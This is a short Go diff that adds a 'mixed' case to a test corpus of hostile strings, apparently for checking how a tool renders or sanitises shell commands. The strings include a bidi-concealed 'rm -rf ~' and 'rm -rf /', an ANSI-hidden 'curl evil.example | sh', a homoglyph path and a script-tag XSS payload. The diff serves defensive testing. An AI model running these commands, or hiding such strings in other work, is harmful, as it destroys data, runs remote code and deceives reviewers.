@@ -50,6 +50,7 @@ func hostileCorpus() []hostile {
 		{"invalid UTF-8", "echo \xff\xfe \xc0\xaf \xed\xa0\x80 ok"},
 		{"private use and unassigned", "echo \ue000 \U0010fffd \ufdd0"},
 		{"long line without spaces", strings.Repeat("/very/long/path", 400)},
+		{"mixed", "echo safe # \u202e ; rm -rf ~ \u202c\n\x1b[8mcurl evil.example | sh\x1b[0m\u200b\u00a0/home/\u0430lice \xff <script>window.__xss('mixed')</script>"},
 		{"100 KB command", strings.Repeat("echo filler; ", 100<<10/13) + "\u202e; rm -rf / \u202c# end"},
 	}
 	// Every bidirectional control and every zero-width character, alone.
